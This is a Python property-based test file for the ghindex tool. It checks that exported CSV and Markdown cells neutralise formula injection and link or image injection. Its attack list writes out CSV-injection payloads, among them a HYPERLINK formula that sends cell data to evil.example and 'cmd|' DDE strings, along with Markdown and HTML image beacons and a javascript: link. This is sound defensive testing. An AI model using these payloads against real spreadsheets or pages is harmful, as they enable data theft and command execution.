"""Exported text is data, not instructions (#48): a value from GitHub written as a CSV
cell never starts a formula in a spreadsheet (OWASP's "CSV Injection": a leading `=`,
`+`, `-`, `@`, tab or carriage return gets a `'`), and one written as a Markdown cell
stays one cell on one line and cannot become an image or a link, in `ghindex sql` and
the HTML report alike (`analysis/cells.py`). The values are generated."""

from __future__ import annotations

import csv
import io
import os
import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ghindex.analysis.cells import FORMULA_START
from ghindex.cli.analysis import csv_text, grid_text

ATTACKS = st.one_of(
    st.sampled_from(FORMULA_START).flatmap(
        lambda start: st.text(max_size=40).map(lambda rest: start + rest)
    ),
    st.sampled_from(
        [
            '=HYPERLINK("https://evil.example/?d="&A1,"click")',
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "![pixel](https://evil.example/p.png)",
            "a | b\n| c | d |",
            '<img src="https://evil.example/p.png">',
            "[click](javascript:alert(1))",
        ]
    ),
    st.text(alphabet=st.sampled_from(list("=+-@\t\r|\n![]()<>\\ab")), max_size=30),
)
EXAMPLES = int(os.environ.get("GHINDEX_EXAMPLES", "100"))


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.lists(ATTACKS, min_size=3, max_size=3), min_size=1, max_size=4), ATTACKS)
def test_no_csv_cell_starts_a_formula(rows, column):
    text = csv_text([column, "b", "c"], rows)

    # the cells as a spreadsheet reads them (a carriage return is printed `\\u000d`)
    read = list(csv.reader(io.StringIO(text, newline="")))
    for cells in read:
        for cell in cells:
            assert not cell.startswith(FORMULA_START), cell


def test_numbers_stay_numbers_in_csv():
    assert csv_text(["n"], [[-5], [1.5]]) == "n\n-5\n1.5\n"


@settings(max_examples=EXAMPLES, deadline=None)
@given(st.lists(st.lists(ATTACKS, min_size=3, max_size=3), min_size=1, max_size=4), ATTACKS)
def test_markdown_cells_stay_cells_and_inert(rows, column):
    text = grid_text([column, "b", "c"], rows, markdown=True)
    lines = text.split("\n")

    assert len(lines) == len(rows) + 2  # no value adds a row
    for line in lines:
        unescaped = re.sub(r"\\.", "", line)  # `\|` and `\[` are text
        assert unescaped.count("|") == 4, line  # no value adds a cell
        assert "[" not in unescaped and "<" not in unescaped, line  # no image, link, HTML


@pytest.mark.slow
def test_sql_csv_and_markdown_of_a_hostile_title_are_inert(tmp_path, run):
    from testkit.github_server import issue_node
    from testkit.state import settings_for, store_issues

    config = settings_for(tmp_path / "work")
    title = '=HYPERLINK("https://evil.example/?d="&A1,"x") | ![p](https://evil.example/p.png)'
    store_issues(config, [issue_node(1, title=title, body="x")])
    query = "SELECT title FROM issues"

    as_csv = run("sql", query, "--format", "csv", "--snapshot", str(config.workdir))
    as_markdown = run("sql", query, "--format", "markdown", "--snapshot", str(config.workdir))

    assert as_csv.exit_code == 0, as_csv.output
    assert list(csv.reader(io.StringIO(as_csv.stdout)))[1] == ["'" + title]
    assert as_markdown.stdout.splitlines()[2] == (
        '| =HYPERLINK("https://evil.example/?d="&A1,"x") \\| !\\[p\\](https://evil.example/p.png) |'
    )
